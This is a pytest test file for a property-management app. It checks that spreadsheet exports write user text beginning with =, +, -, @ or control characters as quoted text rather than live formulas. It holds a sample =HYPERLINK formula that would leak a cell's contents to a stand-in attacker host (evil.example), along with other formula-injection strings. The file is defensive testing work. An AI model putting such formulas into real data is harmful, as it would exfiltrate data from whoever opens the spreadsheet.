"""Exports never carry a live formula: user text that a spreadsheet would run is written as text."""
from __future__ import annotations

import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from pm.access import scope_for
from pm.models import Role
from pm.services.imports import exporting
from pm.services.spreadsheets import Money, Sheet, write_xlsx
from tests.factories import make_building, make_household, make_owner, make_person, make_unit, make_world

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def test_household_named_like_a_formula_is_exported_as_text(app, db):
    """An owner named =HYPERLINK(…) and notes starting with + - @ are text cells with the apostrophe mark."""
    world = make_world()
    manager = world.users[Role.STATION_MANAGER]
    compound = world.compounds["a"][0]
    unit = make_unit(make_building(compound, name="9号楼"), name="1单元")
    household = make_household(unit, room_no="101", area_m2=Decimal("60.00"), note="@SUM(1+1)")
    make_owner(household, make_person(name=HYPERLINK, phone="13700000009"))
    make_household(unit, room_no="102", note="-2+3")
    make_household(unit, room_no="103", note="+86 电话")
    db.session.commit()
    _compound, data = exporting.export_workbook(compound.id, actor=manager, scope=scope_for(manager))
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    sheet = load_workbook(io.BytesIO(data))["房屋"]
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    for text in (HYPERLINK, "@SUM(1+1)", "-2+3", "+86 电话"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert not cells["9号楼"].quotePrefix  # ordinary text is left alone


def test_every_writer_row_goes_through_the_guard():
    """The one writer neutralises titles, headers and rows of any export; numbers and money stay numbers."""
    data = write_xlsx(Sheet("表", title_line="=1+1", header=["\t=cmd", "金额"],
                            rows=[["\r=2", Money(-150)], ["=A1", -3]]))
    ws = load_workbook(io.BytesIO(data))["表"]
    values = [[c.value for c in row] for row in ws.iter_rows()]
    # (XML turns the carriage return into a line feed; what matters is that it is text)
    assert values == [["=1+1", None], ["\t=cmd", "金额"], ["\n=2", -1.5], ["=A1", -3]]
    assert all(c.data_type == "s" for row in ws.iter_rows() for c in row if isinstance(c.value, str))
    assert ws["B3"].data_type == "n" and ws["B4"].value == -3
